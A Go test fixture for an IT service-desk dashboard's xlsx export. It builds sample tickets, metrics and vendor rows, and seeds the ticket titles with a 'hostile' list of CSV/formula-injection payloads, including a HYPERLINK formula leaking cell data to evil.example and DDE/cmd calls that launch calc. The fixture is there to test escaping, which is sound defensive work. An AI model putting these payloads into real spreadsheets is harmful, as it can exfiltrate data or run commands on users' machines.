package xlsx

import (
	"fmt"
	"time"

	"github.com/tierlens/tierlens/dashboards"
)

func f64(x float64) *float64 { return &x }
func i64(x int64) *int64     { return &x }

// hostile are ticket texts that a spreadsheet could take for a formula, a DDE call, markup or
// terminal control: each must come back as the same literal text.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1)`,
	`-2+3`,
	"\t=1",
	"\r=1",
	`<script>alert("x")</script>`,
	"\x1b[31mred\x1b[0m and \x1b]0;title\x07",
	`=1+1`,
	`DDE("cmd";"/c calc";"x")`,
	`'=quoted`,
	"line one\nline two",
	"_x0041_ is no A",
}

// ticketColumns are the Tickets sheet's columns in the fixture (the same the bench writes).
var ticketColumns = []Column{
	{"Ticket", UnitText},
	{"Title", UnitText},
	{"Source", UnitText},
	{"Priority", UnitText},
	{"Created", UnitDateTime},
	{"Resolved", UnitDateTime},
	{"Entry tier", UnitText},
	{"Resolving tier", UnitText},
	{"Max tier", UnitText},
	{"Escalations", UnitCount},
	{"Resolution (h)", UnitHours},
	{"SLA met", UnitText},
	{"Reopened", UnitCount},
	{"CSAT", UnitScore},
}

// ticketRow is the fixture's i-th ticket (deterministic); the first ones carry hostile titles.
func ticketRow(i int) []any {
	created := time.Date(2026, 10, 1, 7, 15, 0, 0, time.UTC).Add(time.Duration(i) * 97 * time.Minute)
	title := fmt.Sprintf("Printer %d on floor %d does not print", i, i%7)
	if i < len(hostile) {
		title = hostile[i]
	}
	tiers := []string{"L1", "L2", "L3", "L4"}
	var resolved any
	var hours any
	if i%5 != 4 {
		h := float64(i%40)*1.35 + 0.4
		resolved = created.Add(time.Duration(h * float64(time.Hour)))
		hours = h
	}
	var csat any
	if i%3 == 0 {
		csat = float64(1+i%5) - 0.25
	}
	sla := "yes"
	if i%4 == 1 {
		sla = "no"
	}
	return []any{
		fmt.Sprintf("INC%07d", 1000+i), title, []string{"jira", "servicenow"}[i%2], fmt.Sprintf("P%d", 1+i%4),
		created, resolved, tiers[0], tiers[i%3], tiers[i%4], int64(i % 4), hours, sla, i % 2, csat,
	}
}

// testPack is a full pack with every kind of content, the first tickets hostile.
func testPack(lang string, tickets int) *Pack {
	madrid, err := time.LoadLocation("Europe/Madrid")
	if err != nil {
		panic(err)
	}
	periods := []string{"2026-W40", "2026-W41", "2026-W42", "2026-W43"}
	return &Pack{
		Lang: lang,
		Zone: madrid,
		Header: Header{
			Title:           "IT service desk — Q4 2026 & beyond",
			Period:          "2026-Q4",
			First:           time.Date(2026, 10, 1, 0, 0, 0, 0, madrid),
			Last:            time.Date(2026, 12, 31, 0, 0, 0, 0, madrid),
			DataFirst:       time.Date(2025, 1, 2, 8, 0, 0, 0, time.UTC),
			DataLast:        time.Date(2026, 12, 31, 23, 30, 0, 0, time.UTC), // 2027-01-01 in Madrid
			Tickets:         123456,
			Sources:         []string{"jira: 80,000 tickets, event history", "servicenow: 43,456 tickets, flat export"},
			ConfigHash:      "c0ffee12",
			DefinitionsHash: "defs9876",
			Version:         "v1.2.3",
			Filters:         []string{"priority=P1,P2", "source=jira"},
		},
		Summary: []SummaryRow{
			{Metric: "fcr_rate", Title: "First contact resolution", Unit: UnitPercent, Direction: Up, Value: f64(0.7), Target: f64(0.7), Previous: f64(0.655), Delta: f64(0.045), Numerator: f64(700), Denominator: f64(1000), State: StateMet, Amber: 0.05},
			{Metric: "fcr_rate", Title: "First contact resolution", Tier: "L1", Unit: UnitPercent, Direction: Up, Value: f64(0.672), Target: f64(0.7), Previous: f64(0.681), Delta: f64(-0.009), Numerator: f64(672), Denominator: f64(1000), State: StateMissed, Amber: 0.05},
			{Metric: "mttr_hours", Title: "Mean time to resolve", Tier: "L2", Unit: UnitHours, Direction: Down, Value: f64(8.55), Target: f64(8), Previous: f64(9.15), Delta: f64(-0.6), SampleSize: i64(412), State: StateMissed, Amber: 0.8},
			{Metric: "mttr_hours", Title: "Mean time to resolve", Tier: "L3", Unit: UnitHours, Direction: Down, Value: f64(7.95), Target: f64(8), Previous: f64(7.05), Delta: f64(0.9), SampleSize: i64(98), State: StateMet, Amber: 0.8},
			{Metric: "sla_met", Title: "Resolution SLA met", Tier: "L1", Unit: UnitPercent, Direction: Up, Value: f64(0.612), Target: f64(0.9), Previous: f64(0.702), Delta: f64(-0.09), Numerator: f64(612), Denominator: f64(1000), State: StateMissed, Amber: 0.05},
			{Metric: "backlog", Title: "Open backlog", Unit: UnitCount, Direction: Down, Value: f64(1234), Previous: f64(1100), Delta: f64(134)},
			{Metric: "csat", Title: "Customer satisfaction", Unit: UnitScore, Direction: Up, Target: f64(4.2), State: StateNotAvailable, Note: "the source records no survey"},
			{Metric: "reopen_rate", Title: "Reopen rate", Tier: "L4", Unit: UnitPercent, Direction: Down, Target: f64(0.05), State: StateNoData},
		},
		Notices: []dashboards.Notice{
			{Kind: "unmapped", Text: "Assignment groups that match no tier rule (2) held 57 tickets in this period.", Items: []string{"Desk =SUM(A1)", "Night shift _x0041_"}},
			{Kind: "rejects", Text: "12 records were rejected by the loads behind this period."},
		},
		Trend: []TrendBlock{
			{Metric: "fcr_rate", Title: "First contact resolution", Unit: UnitPercent, Periods: periods, Target: f64(0.7),
				Series: []TrendSeries{{"All", []*float64{f64(0.61), f64(0.655), nil, f64(0.7)}}, {"L1", []*float64{f64(0.58), f64(0.601), f64(0.633), f64(0.672)}}}},
			{Metric: "created", Title: "Tickets created", Unit: UnitCount, Periods: periods,
				Series: []TrendSeries{{"L1", []*float64{f64(410), f64(388), f64(402), f64(395)}}, {"L2", []*float64{f64(120), f64(131), f64(118), f64(125)}}, {"L3", []*float64{f64(33), f64(29), f64(41), f64(36)}}}},
			{Metric: "backlog", Title: "Open backlog", Unit: UnitCount, Periods: periods, Target: f64(1000),
				Series: []TrendSeries{{"All", []*float64{f64(1050), f64(1100), f64(1180), f64(1234)}}}},
		},
		Tiers: []Table{
			{Title: "Resolve vs escalate", Columns: []Column{{"Tier", UnitText}, {"Tickets", UnitCount}, {"Resolved here", UnitPercent}, {"Escalated", UnitPercent}, {"Time in tier (h)", UnitHours}},
				Rows: [][]any{{"L1", int64(5000), 0.705, 0.295, 1.25}, {"L2", int64(1475), 0.812, 0.188, 6.45}, {"L3", int64(277), 0.9, 0.1, nil}}},
			{Title: "Backlog and aging", Note: "Open at the end of the period.", Columns: []Column{{"Tier", UnitText}, {"Open", UnitCount}, {"Oldest", UnitDate}, {"Age p90 (h)", UnitHours}},
				Rows: [][]any{{"L1", 812, time.Date(2026, 9, 3, 23, 30, 0, 0, time.UTC), 96.5}, {"L2", 301, time.Date(2026, 8, 14, 10, 0, 0, 0, time.UTC), 210.25}}},
		},
		Flow: &FlowMatrix{Tiers: []string{"L1", "L2", "L3", "L4"}, Counts: [][]int64{{0, 1200, 80, 15}, {90, 0, 230, 40}, {5, 30, 0, 22}, {0, 3, 4, 0}}},
		Vendors: []VendorRow{
			{Vendor: "Acme Networks", Tickets: 40, Attainment: f64(0.925), Response: f64(2.5), ResolutionMedian: f64(20.25), ResolutionP90: f64(70.5), ReopenRate: f64(0.05), CSAT: f64(0.82)},
			{Vendor: "+Globex|cmd", Tickets: 12, Attainment: f64(0.75), Response: f64(6.75), ResolutionMedian: f64(44.5), ResolutionP90: f64(130.25), ReopenRate: f64(0.083), CSAT: nil},
			{Vendor: "Initech", Tickets: 3},
			{Vendor: "Umbrella", Tickets: 20, Attainment: f64(0.75), Response: f64(3.25), ResolutionMedian: f64(30.5), ResolutionP90: f64(80.75), ReopenRate: f64(0), CSAT: f64(0.79)},
		},
		Definitions: []DefinitionRow{
			{Metric: "fcr_rate", Title: "First contact resolution", Description: "Share of tickets resolved by the first tier that received them, without any escalation or reassignment to another tier, among the tickets resolved in the period.", Unit: UnitPercent, Direction: Up, Formula: "tickets resolved at entry tier ÷ tickets resolved", File: "queries/metrics/fcr_rate.sql", Hash: "a1b2c3"},
			{Metric: "mttr_hours", Title: "Mean time to resolve", Description: "Business hours from creation to resolution.", Unit: UnitHours, Direction: Down, Formula: "mean of (resolved − created) in business hours", File: "queries/metrics/mttr_hours.sql", Hash: "d4e5f6"},
			{Metric: "backlog", Title: "Open backlog", Description: "Tickets open at the end of the period.", Unit: UnitCount, Direction: Down, Formula: "count of open tickets", File: "queries/metrics/backlog.sql", Hash: "0a0b0c"},
		},
		Tickets: Tickets{
			Columns: ticketColumns,
			Rows: func(yield func([]any) error) error {
				for i := range tickets {
					if err := yield(ticketRow(i)); err != nil {
						return err
					}
				}
				return nil
			},
		},
	}
}
